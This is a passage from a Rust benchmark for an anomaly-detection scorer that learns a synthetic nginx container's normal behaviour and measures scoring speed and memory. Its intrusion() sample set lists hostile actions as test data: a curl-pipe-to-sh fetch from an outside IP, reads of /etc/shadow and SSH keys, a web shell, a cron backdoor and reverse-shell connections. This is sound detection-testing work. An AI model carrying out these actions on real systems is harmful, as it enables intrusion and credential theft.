//! Throughput and memory of novelty scoring (`habit_models::novelty::NoveltyScorer`) against the
//! baseline of a typical web workload.
//!
//! The baseline is learned, as the daemon learns it, from 600 one-minute intervals of a
//! synthetic nginx container: the entrypoint starting nginx (privilege drops, config, libraries,
//! certificates, listening on 80 and 443), a health check every interval (`sh -c wget …`),
//! 120–180 requests per interval from a load balancer and three client /24s to ~350 static files
//! (Zipf popularity; one image directory large enough to collapse to `dir/*`), API requests
//! proxied to an upstream pool with a proxy cache, DNS, a session cache and a database, syscall
//! counters for ~85 syscalls, an hourly logrotate (`logrotate` → `gzip`, `nginx -s reopen`) and
//! one container restart. The profile is frozen and calibrated.
//!
//! Then a stream of "recorded events" is made from 60 more intervals of the same workload (new
//! pids, client ports, cache keys …), classified by the scorer and mixed as 95 % known, 4 % known
//! through a collapsed directory or network, and 1 % novel (shells, a web shell, a reverse
//! shell, `ptrace`, …). Benchmarks (single thread, so criterion's `thrpt` is events/s per core):
//!
//! - `scorer/mixed`: the mixed stream;
//! - `scorer/known`: known items only, the hot path (target: ≥ 2 million events/s per core).
//!
//! Before benchmarking it prints the memory of one baseline, measured with a counting global
//! allocator (live bytes before/after building): the frozen baseline, the baseline as loaded
//! from its file, the scorer's index, and the file size (target: ≤ 1 MiB per typical web
//! workload baseline).
//!
//!     cargo bench --bench scorer                                    # ~15 s after the build
//!     cargo bench --bench scorer -- --warm-up-time 1 --measurement-time 2
//!     cargo bench --bench scorer -- --quick                         # 2 samples per benchmark
//!     cargo bench --bench scorer -- known                           # only the hot path

use std::alloc::{GlobalAlloc, Layout, System};
use std::collections::BTreeMap;
use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};
use std::time::Duration;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use habit_models::calibrate::{self, DEFAULT_FALSE_ALARM_RATE};
use habit_models::novelty::{Familiarity, NoveltyScorer, Scratch};
use habit_profiles::baseline::Baseline;
use habit_profiles::observation::{Dimension, FileMode, Observation, Proto};
use habit_profiles::profile::{Profile, ProfileConfig, Provenance};
use habit_profiles::workload::WorkloadKey;

// ---------------------------------------------------------------------------------------------
// Counting allocator
// ---------------------------------------------------------------------------------------------

/// Live bytes as requested by `Layout`s.
static LIVE_REQUESTED: AtomicI64 = AtomicI64::new(0);
/// Live bytes as malloc handed them out (`malloc_usable_size`), plus glibc's 8-byte chunk
/// header: what the heap really spends on them.
static LIVE_FOOTPRINT: AtomicI64 = AtomicI64::new(0);
/// Live blocks.
static LIVE_BLOCKS: AtomicI64 = AtomicI64::new(0);
/// Allocation calls (alloc, alloc_zeroed, realloc) so far.
static ALLOCATIONS: AtomicU64 = AtomicU64::new(0);

/// Per-block overhead of glibc malloc (the size field in front of each chunk).
const CHUNK_HEADER: i64 = 8;

/// Forwards to the system allocator and counts live bytes.
struct Counting;

#[cfg(all(target_os = "linux", target_env = "gnu"))]
fn footprint(ptr: *mut u8, _requested: usize) -> i64 {
    // SAFETY: `ptr` is a live block returned by the system allocator (glibc malloc, calloc,
    // realloc or posix_memalign), for which malloc_usable_size is defined.
    let usable = unsafe { libc::malloc_usable_size(ptr.cast()) };
    usable as i64 + CHUNK_HEADER
}

#[cfg(not(all(target_os = "linux", target_env = "gnu")))]
fn footprint(_ptr: *mut u8, requested: usize) -> i64 {
    requested as i64 + CHUNK_HEADER
}

fn counted(ptr: *mut u8, size: usize) {
    if !ptr.is_null() {
        LIVE_REQUESTED.fetch_add(size as i64, Ordering::Relaxed);
        LIVE_FOOTPRINT.fetch_add(footprint(ptr, size), Ordering::Relaxed);
        LIVE_BLOCKS.fetch_add(1, Ordering::Relaxed);
        ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
    }
}

// SAFETY: every call is forwarded unchanged to the system allocator; the bookkeeping only
// touches atomics and reads the size of blocks that are live at that moment.
unsafe impl GlobalAlloc for Counting {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        // SAFETY: same contract as the caller's.
        let ptr = unsafe { System.alloc(layout) };
        counted(ptr, layout.size());
        ptr
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        // SAFETY: same contract as the caller's.
        let ptr = unsafe { System.alloc_zeroed(layout) };
        counted(ptr, layout.size());
        ptr
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        let old = footprint(ptr, layout.size());
        // SAFETY: same contract as the caller's.
        let new = unsafe { System.realloc(ptr, layout, new_size) };
        if !new.is_null() {
            LIVE_REQUESTED.fetch_add(new_size as i64 - layout.size() as i64, Ordering::Relaxed);
            LIVE_FOOTPRINT.fetch_add(footprint(new, new_size) - old, Ordering::Relaxed);
            ALLOCATIONS.fetch_add(1, Ordering::Relaxed);
        }
        new
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        LIVE_REQUESTED.fetch_sub(layout.size() as i64, Ordering::Relaxed);
        LIVE_FOOTPRINT.fetch_sub(footprint(ptr, layout.size()), Ordering::Relaxed);
        LIVE_BLOCKS.fetch_sub(1, Ordering::Relaxed);
        // SAFETY: same contract as the caller's.
        unsafe { System.dealloc(ptr, layout) }
    }
}

#[global_allocator]
static GLOBAL: Counting = Counting;

/// A snapshot of the live heap.
#[derive(Debug, Clone, Copy)]
struct Heap {
    requested: i64,
    footprint: i64,
    blocks: i64,
}

impl Heap {
    fn now() -> Self {
        Self {
            requested: LIVE_REQUESTED.load(Ordering::Relaxed),
            footprint: LIVE_FOOTPRINT.load(Ordering::Relaxed),
            blocks: LIVE_BLOCKS.load(Ordering::Relaxed),
        }
    }

    /// What was allocated (and is still live) since `before`.
    fn since(before: Heap) -> Heap {
        let now = Heap::now();
        Heap {
            requested: now.requested - before.requested,
            footprint: now.footprint - before.footprint,
            blocks: now.blocks - before.blocks,
        }
    }

    fn plus(self, other: Heap) -> Heap {
        Heap {
            requested: self.requested + other.requested,
            footprint: self.footprint + other.footprint,
            blocks: self.blocks + other.blocks,
        }
    }

    fn describe(&self) -> String {
        format!(
            "{:>8.1} KiB heap ({:>7.1} KiB requested, {:>6} blocks)",
            kib(self.footprint),
            kib(self.requested),
            self.blocks
        )
    }
}

fn kib(bytes: i64) -> f64 {
    bytes as f64 / 1024.0
}

/// Builds a value and returns it with the heap it still holds once built (temporaries freed).
fn measured<T>(build: impl FnOnce() -> T) -> (T, Heap) {
    let before = Heap::now();
    let value = build();
    (value, Heap::since(before))
}

// ---------------------------------------------------------------------------------------------
// A deterministic generator
// ---------------------------------------------------------------------------------------------

/// SplitMix64: the synthetic workload is the same on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// `n` hex digits with at least one digit and one letter (an md5-style cache key or an
    /// asset content hash).
    fn hex(&mut self, n: usize) -> String {
        loop {
            let s: String = (0..n)
                .map(|_| char::from(b"0123456789abcdef"[self.below(16) as usize]))
                .collect();
            if s.bytes().any(|b| b.is_ascii_digit()) && s.bytes().any(|b| b.is_ascii_lowercase()) {
                return s;
            }
        }
    }

    fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            items.swap(i, j);
        }
    }
}

// ---------------------------------------------------------------------------------------------
// The typical web workload
// ---------------------------------------------------------------------------------------------

const WORKLOAD: &str = "docker.io/library/nginx:1.25";
const NODE: &str = "node-a";
const START_MS: u64 = 1_700_000_000_000;
const INTERVAL_MS: u64 = 60_000;
const LEARN_INTERVALS: u64 = 600;
/// The container restarts (same image, new container id) at this interval.
const RESTART_AT: u64 = 300;
/// Intervals of the same workload recorded after learning, the source of the stream.
const RECORD_INTERVALS: u64 = 60;
/// Events per benchmarked stream.
const STREAM_LEN: usize = 10_000;

const NGINX: &str = "/usr/sbin/nginx";
const ENTRYPOINT: &str = "/docker-entrypoint.sh";
const SH: &str = "/bin/sh";
const WGET: &str = "/usr/bin/wget";
const LOGROTATE: &str = "/usr/sbin/logrotate";
const GZIP: &str = "/bin/gzip";
const HTML: &str = "/usr/share/nginx/html";

const NGINX_LIBS: &[&str] = &[
    "/etc/ld.so.cache",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/x86_64-linux-gnu/libcrypt.so.1",
    "/lib/x86_64-linux-gnu/libpcre2-8.so.0",
    "/lib/x86_64-linux-gnu/libssl.so.3",
    "/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/lib/x86_64-linux-gnu/libz.so.1",
];

const WGET_LIBS: &[&str] = &[
    "/etc/ld.so.cache",
    "/lib/x86_64-linux-gnu/libc.so.6",
    "/lib/x86_64-linux-gnu/libpcre2-8.so.0",
    "/lib/x86_64-linux-gnu/libuuid.so.1",
    "/lib/x86_64-linux-gnu/libidn2.so.0",
    "/lib/x86_64-linux-gnu/libpsl.so.5",
    "/lib/x86_64-linux-gnu/libunistring.so.2",
    "/lib/x86_64-linux-gnu/libssl.so.3",
    "/lib/x86_64-linux-gnu/libcrypto.so.3",
    "/lib/x86_64-linux-gnu/libz.so.1",
    "/etc/wgetrc",
];

const NGINX_CONFIG: &[&str] = &[
    "/etc/nginx/nginx.conf",
    "/etc/nginx/mime.types",
    "/etc/nginx/conf.d/default.conf",
    "/etc/nginx/conf.d/upstreams.conf",
    "/etc/nginx/conf.d/gzip.conf",
    "/etc/nginx/conf.d/cache.conf",
    "/etc/nginx/snippets/ssl-params.conf",
    "/etc/nginx/snippets/proxy.conf",
    "/etc/nginx/snippets/security-headers.conf",
    "/etc/nginx/fastcgi_params",
    "/etc/nginx/scgi_params",
    "/etc/nginx/uwsgi_params",
    "/etc/nginx/ssl/site.crt",
    "/etc/nginx/ssl/site.key",
    "/etc/nginx/ssl/dhparam.pem",
    "/etc/ssl/certs/ca-certificates.crt",
    "/usr/lib/ssl/openssl.cnf",
    "/etc/passwd",
    "/etc/group",
    "/etc/nsswitch.conf",
    "/etc/localtime",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/host.conf",
    "/etc/gai.conf",
    "/sys/fs/cgroup/cpu.max",
    "/sys/devices/system/cpu/online",
    "/proc/sys/kernel/ngroups_max",
    "/proc/meminfo",
];

const ENTRYPOINT_SCRIPTS: &[&str] = &[
    "/docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
    "/docker-entrypoint.d/15-local-resolvers.envsh",
    "/docker-entrypoint.d/20-envsubst-on-templates.sh",
    "/docker-entrypoint.d/30-tune-worker-processes.sh",
    "/etc/nginx/templates/default.conf.template",
];

const CSS: &[&str] = &[
    "main",
    "vendor",
    "print",
    "theme-dark",
    "theme-light",
    "docs",
    "blog",
    "landing",
    "pricing",
    "forms",
    "grid",
    "icons",
];

const JS: &[&str] = &[
    "main",
    "vendor",
    "runtime",
    "polyfills",
    "search",
    "analytics",
    "docs",
    "blog",
    "pricing",
    "checkout",
    "login",
    "signup",
    "dashboard",
    "charts",
    "editor",
    "highlight",
    "i18n",
    "cookie",
    "carousel",
    "modal",
    "tabs",
    "tooltip",
    "sw",
    "worker",
];

const FONTS: &[&str] = &[
    "inter-400.woff2",
    "inter-500.woff2",
    "inter-700.woff2",
    "inter-400-italic.woff2",
    "jetbrains-mono-400.woff2",
    "jetbrains-mono-700.woff2",
    "icons.woff2",
    "icons.ttf",
];

const DOC_SECTIONS: &[&str] = &["guide", "api", "reference", "howto", "faq"];

const DOC_PAGES: &[&str] = &[
    "index",
    "install",
    "quickstart",
    "configuration",
    "authentication",
    "authorization",
    "deployment",
    "scaling",
    "monitoring",
    "logging",
    "backup",
    "restore",
    "upgrade",
    "migration",
    "security",
    "networking",
    "storage",
    "caching",
    "webhooks",
    "errors",
    "limits",
    "pagination",
    "glossary",
    "changelog",
];

const BLOG_POSTS: &[&str] = &[
    "hello-world",
    "why-we-moved-to-nginx",
    "zero-downtime-deploys",
    "caching-at-the-edge",
    "our-new-pricing",
    "postgres-tuning",
    "scaling-redis",
    "incident-report",
    "year-in-review",
    "security-audit",
    "http3-is-here",
    "tls-everywhere",
    "on-call-lessons",
    "observability",
    "open-source-release",
    "hiring-sres",
    "latency-budget",
    "rate-limiting",
    "feature-flags",
    "canary-releases",
    "cost-savings",
    "green-hosting",
    "api-v2",
    "sdk-launch",
    "webhooks-ga",
    "status-page",
    "sso-support",
    "audit-logs",
    "data-residency",
    "roadmap",
];

const IMG_ADJ: &[&str] = &[
    "hero", "team", "product", "office", "customer", "feature", "blog", "event", "banner", "logo",
];
const IMG_NOUN: &[&str] = &[
    "mountain", "city", "desk", "laptop", "chart", "server", "cloud", "rocket", "bridge", "river",
    "forest", "night", "sunrise", "ocean", "harbor",
];

const LOAD_BALANCERS: [Ipv4Addr; 3] = [
    Ipv4Addr::new(10, 1, 0, 2),
    Ipv4Addr::new(10, 1, 0, 3),
    Ipv4Addr::new(10, 1, 0, 4),
];
const CLIENT_NETS: [[u8; 3]; 3] = [[10, 2, 3], [10, 2, 4], [192, 168, 10]];
const UPSTREAMS: [Ipv4Addr; 4] = [
    Ipv4Addr::new(10, 0, 7, 11),
    Ipv4Addr::new(10, 0, 7, 12),
    Ipv4Addr::new(10, 0, 7, 13),
    Ipv4Addr::new(10, 0, 7, 14),
];
const DNS: Ipv4Addr = Ipv4Addr::new(10, 96, 0, 10);
const DB: Ipv4Addr = Ipv4Addr::new(10, 0, 5, 10);
const CACHE: Ipv4Addr = Ipv4Addr::new(10, 0, 5, 20);
const LOCALHOST: Ipv4Addr = Ipv4Addr::LOCALHOST;

/// Syscalls made in every interval, with their typical count per minute.
const STEADY_SYSCALLS: &[(&str, u64)] = &[
    ("read", 9_000),
    ("write", 6_000),
    ("openat", 2_500),
    ("close", 4_000),
    ("newfstatat", 2_400),
    ("fstat", 1_200),
    ("lseek", 300),
    ("mmap", 400),
    ("munmap", 380),
    ("mprotect", 120),
    ("brk", 60),
    ("pread64", 800),
    ("pwrite64", 200),
    ("readv", 150),
    ("writev", 5_000),
    ("sendfile", 2_000),
    ("socket", 400),
    ("connect", 380),
    ("accept4", 3_000),
    ("sendto", 900),
    ("recvfrom", 6_000),
    ("sendmsg", 60),
    ("recvmsg", 80),
    ("shutdown", 200),
    ("getsockname", 400),
    ("getpeername", 100),
    ("setsockopt", 3_200),
    ("getsockopt", 600),
    ("epoll_wait", 12_000),
    ("epoll_ctl", 7_000),
    ("ioctl", 300),
    ("fcntl", 600),
    ("futex", 100),
    ("gettimeofday", 50),
    ("clock_gettime", 200),
    ("getpid", 40),
    ("rt_sigaction", 40),
    ("rt_sigprocmask", 80),
    ("rt_sigreturn", 4),
    ("execve", 4),
    ("clone", 2),
    ("clone3", 2),
    ("wait4", 4),
    ("exit_group", 4),
    ("access", 20),
    ("getrandom", 30),
    ("set_tid_address", 4),
    ("set_robust_list", 4),
    ("rseq", 4),
    ("prlimit64", 4),
    ("arch_prctl", 4),
    ("uname", 4),
    ("poll", 20),
    ("statx", 30),
    ("readlink", 8),
    ("getuid", 8),
    ("geteuid", 8),
    ("getgid", 4),
    ("getegid", 4),
    ("getppid", 2),
    ("getcwd", 4),
    ("dup2", 8),
    ("pipe2", 4),
    ("kill", 1),
    ("nanosleep", 2),
];

/// Syscalls made only at start-up (entrypoint, master process, worker privilege drop).
const STARTUP_SYSCALLS: &[(&str, u64)] = &[
    ("bind", 4),
    ("listen", 4),
    ("setuid", 2),
    ("setgid", 2),
    ("setgroups", 2),
    ("setrlimit", 2),
    ("getrlimit", 4),
    ("prctl", 4),
    ("socketpair", 4),
    ("epoll_create1", 3),
    ("eventfd2", 2),
    ("io_setup", 2),
    ("mkdir", 5),
    ("chown", 5),
    ("umask", 2),
    ("chdir", 2),
    ("sched_getaffinity", 2),
    ("sysinfo", 1),
];

/// Syscalls made by the hourly logrotate (and gzip).
const LOGROTATE_SYSCALLS: &[(&str, u64)] = &[
    ("rename", 4),
    ("unlink", 2),
    ("fchmod", 2),
    ("fchown", 2),
    ("utimensat", 2),
    ("getdents64", 6),
    ("fsync", 2),
    ("flock", 2),
    ("ftruncate", 1),
];

/// A synthetic nginx container serving a static site and a proxied API.
struct WebWorkload {
    /// Static files by popularity rank.
    static_files: Vec<String>,
    /// Zipf(1.0) cumulative distribution over `static_files`.
    static_cdf: Vec<f64>,
}

impl WebWorkload {
    fn new(rng: &mut Rng) -> Self {
        let mut head: Vec<String> = [
            "index.html",
            "favicon.ico",
            "robots.txt",
            "sitemap.xml",
            "manifest.webmanifest",
            "apple-touch-icon.png",
            "404.html",
            "50x.html",
        ]
        .iter()
        .map(|f| format!("{HTML}/{f}"))
        .collect();
        head.extend(
            CSS.iter()
                .map(|s| format!("{HTML}/assets/css/{s}.{}.css", rng.hex(8))),
        );
        head.extend(
            JS.iter()
                .map(|s| format!("{HTML}/assets/js/{s}.{}.js", rng.hex(8))),
        );
        head.extend(FONTS.iter().map(|f| format!("{HTML}/assets/fonts/{f}")));
        let mut tail: Vec<String> = Vec::new();
        for section in DOC_SECTIONS {
            tail.extend(
                DOC_PAGES
                    .iter()
                    .map(|p| format!("{HTML}/docs/{section}/{p}.html")),
            );
        }
        for (i, post) in BLOG_POSTS.iter().enumerate() {
            tail.push(format!("{HTML}/blog/{}/{post}.html", 2022 + i % 3));
        }
        for adj in IMG_ADJ {
            for noun in IMG_NOUN {
                let ext = if rng.chance(0.3) { "webp" } else { "jpg" };
                tail.push(format!("{HTML}/img/{adj}-{noun}.{ext}"));
            }
        }
        rng.shuffle(&mut tail);
        let static_files: Vec<String> = head.into_iter().chain(tail).collect();
        let weights: Vec<f64> = (1..=static_files.len())
            .map(|rank| 1.0 / rank as f64)
            .collect();
        let total: f64 = weights.iter().sum();
        let mut acc = 0.0;
        let static_cdf = weights
            .iter()
            .map(|w| {
                acc += w / total;
                acc
            })
            .collect();
        Self {
            static_files,
            static_cdf,
        }
    }

    fn static_file(&self, rng: &mut Rng) -> &str {
        let u = rng.unit();
        let i = self
            .static_cdf
            .partition_point(|&c| c < u)
            .min(self.static_files.len() - 1);
        &self.static_files[i]
    }

    /// The container starting: the entrypoint, nginx's master and workers.
    fn startup(&self, out: &mut Vec<Observation>) {
        out.push(Observation::exec(ENTRYPOINT));
        out.push(Observation::args(
            ENTRYPOINT,
            &[ENTRYPOINT, "nginx", "-g", "daemon off;"],
        ));
        for script in ENTRYPOINT_SCRIPTS {
            out.push(Observation::file(script, FileMode::Read));
        }
        out.push(Observation::file(
            "/etc/nginx/conf.d/default.conf",
            FileMode::Write,
        ));
        out.push(Observation::process_edge(ENTRYPOINT, NGINX));
        out.push(Observation::exec(NGINX));
        out.push(Observation::args(NGINX, &["nginx", "-g", "daemon off;"]));
        for lib in NGINX_LIBS {
            out.push(Observation::file(lib, FileMode::Read));
        }
        for config in NGINX_CONFIG {
            out.push(Observation::file(config, FileMode::Read));
        }
        for dir in [
            "client_temp",
            "proxy_temp",
            "fastcgi_temp",
            "uwsgi_temp",
            "scgi_temp",
        ] {
            out.push(Observation::file(
                &format!("/var/cache/nginx/{dir}"),
                FileMode::Read,
            ));
        }
        out.push(Observation::file("/var/run/nginx.pid", FileMode::Write));
        out.push(Observation::file(
            "/var/log/nginx/access.log",
            FileMode::Write,
        ));
        out.push(Observation::file(
            "/var/log/nginx/error.log",
            FileMode::Write,
        ));
        out.push(Observation::file("/dev/null", FileMode::ReadWrite));
        out.push(Observation::file("/dev/urandom", FileMode::Read));
        out.push(Observation::listen(80, Proto::Tcp));
        out.push(Observation::listen(443, Proto::Tcp));
        // The master drops privileges for each of its two workers.
        for _ in 0..2 {
            out.push(Observation::privileged("setgid", None));
            out.push(Observation::privileged("setgroups", None));
            out.push(Observation::privileged("setuid", None));
        }
    }

    /// One minute of normal operation.
    fn interval(&self, t: u64, rng: &mut Rng, out: &mut Vec<Observation>) {
        // Docker HEALTHCHECK every 30 s: `sh -c 'wget -q --spider http://127.0.0.1/healthz'`.
        for _ in 0..2 {
            let check = "wget -q --spider http://127.0.0.1/healthz";
            out.push(Observation::exec(SH));
            out.push(Observation::args(SH, &["sh", "-c", check]));
            out.push(Observation::process_edge(SH, WGET));
            out.push(Observation::exec(WGET));
            out.push(Observation::args(
                WGET,
                &["wget", "-q", "--spider", "http://127.0.0.1/healthz"],
            ));
            for lib in WGET_LIBS {
                out.push(Observation::file(lib, FileMode::Read));
            }
            out.push(Observation::file("/etc/nsswitch.conf", FileMode::Read));
            out.push(Observation::file("/etc/hosts", FileMode::Read));
            out.push(Observation::outbound(LOCALHOST.into(), 80, Proto::Tcp));
            out.push(Observation::inbound(
                LOCALHOST.into(),
                ephemeral(rng),
                80,
                Proto::Tcp,
            ));
        }

        // Requests.
        let requests = rng.range(120, 180);
        for _ in 0..requests {
            let local = if rng.chance(0.8) { 443 } else { 80 };
            out.push(Observation::inbound(
                client(rng),
                ephemeral(rng),
                local,
                Proto::Tcp,
            ));
            if rng.chance(0.85) {
                let file = self.static_file(rng);
                out.push(Observation::file(file, FileMode::Read));
            } else {
                let upstream = *rng.pick(&UPSTREAMS);
                out.push(Observation::outbound(upstream.into(), 8080, Proto::Tcp));
                if rng.chance(0.4) {
                    let key = rng.hex(32);
                    let mode = if rng.chance(0.7) {
                        FileMode::Read
                    } else {
                        FileMode::Write
                    };
                    out.push(Observation::file(&format!("/var/cache/nginx/{key}"), mode));
                }
                if rng.chance(0.05) {
                    // A request body larger than client_body_buffer_size.
                    let name = format!("{:010}", rng.range(1, 9_999_999_999));
                    out.push(Observation::file(
                        &format!("/var/cache/nginx/client_temp/{name}"),
                        FileMode::ReadWrite,
                    ));
                }
            }
        }

        out.push(Observation::file(
            "/var/log/nginx/access.log",
            FileMode::Write,
        ));
        if rng.chance(0.2) {
            out.push(Observation::file(
                "/var/log/nginx/error.log",
                FileMode::Write,
            ));
        }
        out.push(Observation::outbound(DNS.into(), 53, Proto::Udp));
        out.push(Observation::outbound(CACHE.into(), 6379, Proto::Tcp));
        if rng.chance(0.3) {
            out.push(Observation::outbound(DB.into(), 5432, Proto::Tcp));
        }
        // The status exporter reads the workers' stats.
        for _ in 0..2 {
            let pid = rng.range(20, 4_000_000);
            out.push(Observation::file(
                &format!("/proc/{pid}/stat"),
                FileMode::Read,
            ));
            out.push(Observation::file(
                &format!("/proc/{pid}/status"),
                FileMode::Read,
            ));
        }
        if rng.chance(0.05) {
            out.push(Observation::file("/etc/localtime", FileMode::Read));
        }

        if t % 60 == 30 {
            self.logrotate(t / 60, out);
        }
    }

    /// The hourly logrotate: rotate, compress the previous rotation, make nginx reopen.
    fn logrotate(&self, hour: u64, out: &mut Vec<Observation>) {
        out.push(Observation::process_edge(SH, LOGROTATE));
        out.push(Observation::exec(LOGROTATE));
        out.push(Observation::args(
            LOGROTATE,
            &["logrotate", "/etc/logrotate.conf"],
        ));
        out.push(Observation::file("/etc/logrotate.conf", FileMode::Read));
        out.push(Observation::file("/etc/logrotate.d/nginx", FileMode::Read));
        out.push(Observation::file(
            "/var/lib/logrotate/status",
            FileMode::Read,
        ));
        out.push(Observation::file(
            "/var/lib/logrotate/status.tmp",
            FileMode::Write,
        ));
        for log in ["access", "error"] {
            out.push(Observation::file(
                &format!("/var/log/nginx/{log}.log.1"),
                FileMode::Write,
            ));
            // rotate 14 with delaycompress: the previous rotation gets compressed.
            if hour >= 1 {
                let n = (hour + 1).min(14);
                out.push(Observation::process_edge(LOGROTATE, GZIP));
                out.push(Observation::exec(GZIP));
                out.push(Observation::args(GZIP, &["gzip", "-9"]));
                out.push(Observation::file(
                    &format!("/var/log/nginx/{log}.log.2"),
                    FileMode::Read,
                ));
                out.push(Observation::file(
                    &format!("/var/log/nginx/{log}.log.{n}.gz"),
                    FileMode::Write,
                ));
            }
        }
        out.push(Observation::process_edge(LOGROTATE, SH));
        out.push(Observation::args(
            SH,
            &["sh", "-c", "/usr/sbin/nginx -s reopen"],
        ));
        out.push(Observation::process_edge(SH, NGINX));
        out.push(Observation::args(NGINX, &["nginx", "-s", "reopen"]));
        out.push(Observation::file("/var/run/nginx.pid", FileMode::Read));
    }

    /// Syscall counters of one interval.
    fn syscall_counts(
        &self,
        t: u64,
        startup: bool,
        rng: &mut Rng,
        out: &mut Vec<(&'static str, u64)>,
    ) {
        out.clear();
        let jitter = |rng: &mut Rng, n: u64| n / 2 + rng.below(n + 1);
        for &(name, n) in STEADY_SYSCALLS {
            out.push((name, jitter(rng, n)));
        }
        if startup {
            out.extend(STARTUP_SYSCALLS.iter().copied());
        }
        if t % 60 == 30 {
            out.extend(LOGROTATE_SYSCALLS.iter().copied());
        }
    }
}

/// A client port (Linux default ephemeral range).
fn ephemeral(rng: &mut Rng) -> u16 {
    rng.range(32_768, 60_999) as u16
}

/// Half the connections come through the load balancers, half straight from three client /24s.
fn client(rng: &mut Rng) -> IpAddr {
    if rng.chance(0.5) {
        (*rng.pick(&LOAD_BALANCERS)).into()
    } else {
        let [a, b, c] = *rng.pick(&CLIENT_NETS);
        Ipv4Addr::new(a, b, c, rng.range(1, 254) as u8).into()
    }
}

/// What the scorer should find novel: the things an intrusion does.
fn intrusion() -> Vec<Observation> {
    vec![
        Observation::exec("/bin/bash"),
        Observation::exec("/usr/bin/curl"),
        Observation::exec("/tmp/.x/kworkerd"),
        Observation::process_edge(NGINX, SH),
        Observation::process_edge(SH, "/usr/bin/curl"),
        Observation::args(SH, &["sh", "-c", "curl -s http://203.0.113.7/x | sh"]),
        Observation::args(NGINX, &["nginx", "-s", "stop"]),
        Observation::file("/etc/shadow", FileMode::Read),
        Observation::file("/root/.ssh/id_rsa", FileMode::Read),
        Observation::file("/etc/cron.d/backdoor", FileMode::Write),
        Observation::file(&format!("{HTML}/shell.php"), FileMode::Write),
        Observation::file("/etc/nginx/conf.d/evil.conf", FileMode::Write),
        Observation::file("/proc/1/environ", FileMode::Read),
        Observation::listen(4444, Proto::Tcp),
        Observation::inbound(
            Ipv4Addr::new(198, 51, 100, 23).into(),
            51_000,
            22,
            Proto::Tcp,
        ),
        Observation::outbound(Ipv4Addr::new(203, 0, 113, 7).into(), 4444, Proto::Tcp),
        Observation::outbound(DB.into(), 22, Proto::Tcp),
        Observation::syscall("ptrace"),
        Observation::syscall("bpf"),
        Observation::privileged("ptrace", Some("1")),
        Observation::privileged("mount", Some("/host")),
        Observation::privileged("memfd_create", None),
    ]
}

// ---------------------------------------------------------------------------------------------
// Setup: learn, freeze, calibrate, record, measure
// ---------------------------------------------------------------------------------------------

struct Setup {
    baseline: Baseline,
    scorer: NoveltyScorer,
    /// 95 % known, 4 % known through a collapse key, 1 % novel, shuffled.
    mixed: Vec<Observation>,
    /// Known items only.
    known: Vec<Observation>,
}

fn container(n: u64) -> Provenance {
    let id = format!("{:016x}", n.wrapping_mul(0x9E37_79B9_7F4A_7C15)).repeat(4);
    Provenance::new(NODE, Some(&id))
}

/// Learns the workload over [`LEARN_INTERVALS`] one-minute intervals.
fn learn(workload: &WebWorkload) -> Profile {
    let mut rng = Rng(1);
    let mut profile = Profile::new(
        WorkloadKey::from_raw(WORKLOAD),
        NODE,
        START_MS,
        ProfileConfig::default(),
    );
    let mut provenance = container(1);
    let mut observations = Vec::with_capacity(1024);
    let mut counts = Vec::with_capacity(128);
    for t in 0..LEARN_INTERVALS {
        let at = START_MS + t * INTERVAL_MS;
        observations.clear();
        let startup = t == 0 || t == RESTART_AT;
        if t == RESTART_AT {
            provenance = container(2);
        }
        if startup {
            workload.startup(&mut observations);
        }
        workload.interval(t, &mut rng, &mut observations);
        let spacing = INTERVAL_MS / (observations.len() as u64 + 1);
        for (i, o) in observations.iter().enumerate() {
            let _ = profile.observe(o, at + i as u64 * spacing, &provenance);
        }
        workload.syscall_counts(t, startup, &mut rng, &mut counts);
        if let Err(e) = profile.observe_syscall_counts(
            &counts,
            (INTERVAL_MS / 1000) as f64,
            at + INTERVAL_MS - 1,
            &provenance,
        ) {
            panic!("syscall counts: {e}");
        }
    }
    profile
}

/// Records [`RECORD_INTERVALS`] more intervals of the same workload and mixes the stream.
fn record(workload: &WebWorkload, scorer: &NoveltyScorer) -> (Vec<Observation>, Vec<Observation>) {
    let mut rng = Rng(2);
    let mut recorded = Vec::new();
    for t in LEARN_INTERVALS..LEARN_INTERVALS + RECORD_INTERVALS {
        workload.interval(t, &mut rng, &mut recorded);
        // The few syscall items that cross to user space.
        for _ in 0..2 {
            recorded.push(Observation::syscall(rng.pick(STEADY_SYSCALLS).0));
        }
    }
    recorded.extend(intrusion());

    let mut scratch = Scratch::default();
    let (mut known, mut generalised, mut novel) = (Vec::new(), Vec::new(), Vec::new());
    for o in recorded {
        match scorer.score(&o, &mut scratch).familiarity {
            Familiarity::Known => known.push(o),
            Familiarity::KnownGeneralised => generalised.push(o),
            Familiarity::Novel => novel.push(o),
        }
    }
    let distinct = |items: &[Observation]| {
        let mut set: Vec<String> = items
            .iter()
            .map(|o| format!("{}: {}", o.dimension, o.generalised()))
            .collect();
        set.sort();
        set.dedup();
        set
    };
    let novel_items = distinct(&novel);
    println!(
